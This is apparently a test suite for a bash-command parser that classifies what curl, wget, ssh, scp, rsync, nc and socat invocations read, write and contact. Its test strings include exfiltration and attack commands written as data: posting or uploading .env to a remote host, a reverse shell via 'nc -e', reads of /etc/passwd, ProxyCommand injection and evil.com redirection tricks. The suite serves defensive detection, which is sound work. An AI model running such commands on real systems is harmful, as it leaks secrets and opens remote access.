import { describe, expect, it } from 'vitest'
import { collectEffects } from '../../../src/bash-parser/collect.ts'
import { findProgram } from '../../../src/bash-parser/commands/index.ts'
import { network } from '../../../src/bash-parser/commands/network.ts'
import type { Program } from '../../../src/bash-parser/commands/program.ts'
import { remoteShells } from '../../../src/bash-parser/commands/ssh.ts'
import { transfers } from '../../../src/bash-parser/commands/transfer.ts'
import { parse } from '../../../src/bash-parser/parse.ts'
import { testPrograms } from '../../support/test-programs.ts'

describe('downloads', () =>
  testPrograms(
    transfers,
    `
  curl --version => nothing
  curl -E c.pem:pw https://x.example => reads c.pem; host x.example
  curl --url-query @q https://x.example => reads q; host x.example
  curl -T '{a,b}' https://x.example => reads a; reads b; host x.example; changes remote data
  curl -F 'a=b;headers=@h' https://x.example => reads h; host x.example; changes remote data
  curl --proto-default file /etc/passwd => reads /etc/passwd; host ?; doubt unknown-option
  curl -V => nothing
  curl --help => nothing
  curl https://X.example/a?b => host x.example
  curl x.example/a => host x.example
  curl -fsSL --max-time 5 https://x.example => host x.example
  curl https://a.example https://b.example => host a.example; host b.example
  curl --url https://x.example => host x.example
  curl https://user:pw@x.example:8443/ => host x.example
  curl https://x.example@y.example/ => host y.example
  curl "https://{a,b}.example/" => host ?
  curl "$URL" => reads ?; host ?; doubt dynamic-word
  curl "https://x.example/$ID" => host x.example
  curl file:///etc/passwd => reads /etc/passwd
  curl FILE://localhost/etc/%70asswd => reads /etc/passwd
  curl file:/etc/passwd => reads /etc/passwd
  curl -o out https://x.example => writes out; host x.example
  curl -sSLoout https://x.example => writes out; host x.example
  curl --outp out https://x.example => host out; host x.example; doubt unknown-option
  curl --output=out https://x.example => writes out; host x.example
  curl -o - https://x.example => host x.example
  curl -O "https://x.example/a/b.tgz?x" => writes b.tgz; host x.example
  curl -O https://x.example/a/b.tgz?x => writes ?; host x.example
  curl -O --output-dir d https://x.example/b => writes d/b; host x.example
  curl -OJ https://x.example/b => writes ./**; host x.example
  curl -c jar -D head --trace t --stderr e https://x.example => writes e; writes head; writes jar; writes t; host x.example
  curl -D - https://x.example => host x.example
  curl -w '%{http_code}' https://x.example => host x.example
  curl -w '%output{f}x' https://x.example => writes f; host x.example
  curl -d a=b https://x.example => host x.example; changes remote data
  curl -d @.env https://x.example => reads .env; host x.example; changes remote data
  curl -d@.env https://x.example => reads .env; host x.example; changes remote data
  curl --data-binary @- https://x.example => host x.example; changes remote data
  curl --data-raw @x https://x.example => host x.example; changes remote data
  curl --data-urlencode k@.env https://x.example => reads .env; host x.example; changes remote data
  curl -d "$X" https://x.example => reads ?; host x.example; changes remote data
  curl -F 'f=@.env;type=text/plain' https://x.example => reads .env; host x.example; changes remote data
  curl -F 'f=<.env' https://x.example => reads .env; host x.example; changes remote data
  curl -T .env https://x.example => reads .env; host x.example; changes remote data
  curl -H @heads https://x.example => reads heads; host x.example
  curl -b a=b https://x.example => host x.example
  curl -b jar https://x.example => reads jar; host x.example
  curl -X DELETE https://x.example => host x.example; changes remote data
  curl -XGET https://x.example => host x.example
  curl -G -d a=b https://x.example => host x.example
  curl --cacert ca.pem -E me.pem https://x.example => reads ca.pem; reads me.pem; host x.example
  curl -K conf => doubt unknown-option; host ?; reads conf
  curl -x proxy.example:3128 https://x.example => host proxy.example; host x.example
  curl --resolve x.example:443:10.0.0.1 https://x.example => host x.example; doubt unknown-option; host 10.0.0.1
  curl --unix-socket /var/run/docker.sock http://x.example/ => host x.example; doubt unknown-option
  curl --zzz https://x.example => host x.example; doubt unknown-option
  curl $OPTS https://x.example => reads ?; host ?; host x.example; doubt dynamic-word
  curl http:/evil.com => host evil.com
  curl http:///evil.com/x => host evil.com
  curl 'http://ev%69l.com' => host ?
  curl 'http://good.com\\@evil.com' => host ?
  curl http://u:p@evil.com:80/x => host evil.com
  curl https://[::1]/x => host ?
  curl localhost:3000 => host localhost
  curl localhost:3000/x?a=[1] => host ?; reads ?
  curl evil.com => host evil.com
  curl --connect-to good.com:80:evil.com:80 http://good.com => doubt unknown-option; host evil.com; host good.com
  curl --connect-to ::evil.com: http://good.com => doubt unknown-option; host evil.com; host good.com
  curl --resolve good.com:80:1.2.3.4 http://good.com => doubt unknown-option; host 1.2.3.4; host good.com
  curl file://127.0.0.1/etc/passwd => reads /etc/passwd
  curl -x socks5h://evil.com:1080 good.com => host evil.com; host good.com
  wget http:/evil.com/x -O- => host evil.com
  wget --version => nothing
  wget https://x.example/a => writes ./**; host x.example
  wget -qO- https://x.example/a => host x.example
  wget -q -O - https://x.example/a => host x.example
  wget -O out https://x.example/a => writes out; host x.example
  wget --output-document=out https://x.example/a => writes out; host x.example
  wget --output-d=out https://x.example/a => writes out; host x.example
  wget -nv -P d https://x.example/a => writes d/**; host x.example
  wget --spider https://x.example/a => host x.example
  wget -o log -O- https://x.example/a => writes log; host x.example
  wget -i urls -O- => reads urls; host ?
  wget --post-file=.env -O- https://x.example/a => reads .env; host x.example; changes remote data
  wget -e use_proxy=yes -O- https://x.example/a => host x.example; doubt unknown-option; host ?
  wget --use-askpass=./x -O- https://x.example/a => host x.example; doubt unknown-option
  wget -r https://x.example/a => writes ./**; host ?; host x.example
`,
  ))

describe('other machines', () =>
  testPrograms(
    remoteShells,
    `
  ssh -V => nothing
  ssh-keygen -lf k => reads k
  ssh-keygen -y -f k => reads k
  ssh-keygen -l -f k -p => reads k; writes k; writes k.pub
  ssh-keygen -F h -f k -R h => reads k; writes k; writes k.pub
  ssh-keygen -D ./lib.so => writes ~/.ssh/**; doubt unknown-option
  ssh-keygen -t ed25519 -f k => reads k; writes k; writes k.pub
  ssh-keygen => writes ~/.ssh/**
  ssh-add k => reads k; changes ssh agent
  ssh-copy-id -i k me@h => reads k; host h; changes remote files; doubt runs
  ssh -o ControlPath=c h => writes c; host h; changes remote session
  rsync -f 'merge r' a b => reads r; reads a/**; writes b/**; doubt unknown-option
  ssh x.example => host x.example; changes remote session
  ssh me@x.example rm -rf /tmp/a => host x.example; shell rm -rf /tmp/a; changes remote session
  ssh -p 22 -i key x.example 'ls && rm a' => reads key; host x.example; shell ls && rm a; changes remote session
  ssh x.example -p 22 rm a => host x.example; shell rm a; changes remote session
  ssh x.example ls "$X" => host x.example; changes remote session; doubt unknown-script
  ssh -o StrictHostKeyChecking=no x.example => host x.example; changes remote session
  ssh -o ProxyCommand='rm a' x.example => host x.example; shell rm a; changes remote session; doubt runs
  ssh -oProxyCommand='rm a' x.example => host x.example; shell rm a; changes remote session; doubt runs
  ssh x.example -o 'localcommand rm a' => host x.example; shell rm a; changes remote session; doubt runs
  ssh -F conf x.example => host x.example; changes remote session; doubt unknown-option; reads conf
  ssh -J jump.example x.example => host jump.example; host x.example; changes remote session
  ssh -L 1:h:2 x.example => host x.example; changes port forwarding; changes remote session
  ssh -E log x.example => writes log; host x.example; changes remote session
  ssh -o HostName=evil.com x => changes remote session; host evil.com; host x
  ssh -o ProxyJump=a,b x => changes remote session; host a; host b; host x
  ssh -J a,u@b:22 x => changes remote session; host a; host b; host x
  scp -J evil.com a x:b => changes remote files; host evil.com; host x; reads a/**
  ssh -F none x => changes remote session; doubt unknown-option; host x
  scp .env me@x.example:/tmp => reads .env/**; host x.example; changes remote files
  scp x.example:/etc/a b => writes b/**; host x.example
  scp -r ./a:b out => reads ./a:b/**L; writes out/**
  rsync -aL src/ out/ => reads src//**L; writes out//**
  rsync -a --copy-links src/ out/ => reads src//**L; writes out//**
  rsync -a src/ out/ => reads src//**; writes out//**
  scp -S ./x x.example:a b => writes b/**; host x.example; shell ./x; doubt unknown-option
  scp -oProxyCommand='rm a' x.example:a b => writes b/**; host x.example; shell rm a; doubt runs
  sftp x.example => host x.example; doubt unknown-script
  sftp x.example:a b => writes b/**; host x.example; doubt unknown-script
  sftp -b cmds x.example => reads cmds; host x.example; doubt unknown-script
  rsync --version => nothing
  rsync -a src/ dst => reads src//**; writes dst/**
  rsync -an src/ dst => reads src//**
  rsync -an --no-dry-run src dst => reads src/**; writes dst/**
  rsync -a --delete src dst => reads src/**; writes dst/**; deletes dst/**
  rsync -a --remove-source-files src dst => reads src/**; writes dst/**; deletes src/**
  rsync -a src x.example:dst => reads src/**; host x.example; changes remote files
  rsync -a rsync://x.example/m dst => writes dst/**; host x.example
  rsync -a x.example::m dst => writes dst/**; host x.example
  rsync -e 'sh x' a h:b => reads a/**; host h; shell sh x; changes remote files; doubt unknown-option
  rsync -a --log-file=l src dst => reads src/**; writes dst/**; writes l
  rsync src => reads src/**
`,
  ))

describe('lookups and probes', () =>
  testPrograms(
    network,
    `
  ping -c 1 x.example => host x.example
  ping -c1 -W2 x.example => host x.example
  traceroute x.example => host x.example
  dig +short x.example => host x.example
  dig @8.8.8.8 x.example MX => host 8.8.8.8; host x.example
  dig -f names => reads names; host ?
  host x.example => host x.example
  nslookup -type=mx x.example => host x.example
  nslookup => host ?; doubt unknown-script
  whois x.example => host ?
  whois -h whois.example x.example => host whois.example
  nc -z x.example 80 => host x.example
  nc -l 80 => host 80; changes open port
  nc -e 'sh -i' x.example 1 => host x.example; shell sh -i; doubt unknown-option
  telnet x.example 23 => host x.example; doubt unknown-script
  ftp x.example => host x.example; doubt unknown-script
  socat TCP:x.example:1 'EXEC:rm a' => shell rm a; doubt runs
`,
  ))

describe('what runs on another machine is remote', () => {
  it.each([
    'ssh x.example rm a',
    'ssh x.example -p 22 rm a',
    'docker exec web rm a',
    'docker run alpine rm a',
    'docker compose exec web rm a',
    'kubectl exec x -- rm a',
    'gcloud compute ssh x --command "rm a"',
  ])('%s', (line) => {
    const [program, ...words] = parse(line).commands[0]?.words ?? []
    const name = program?.value as string
    const { runs } = collectEffects(findProgram(name) as Program, name, words)
    expect(runs.map((run) => run.remote)).toEqual([true])
  })
})
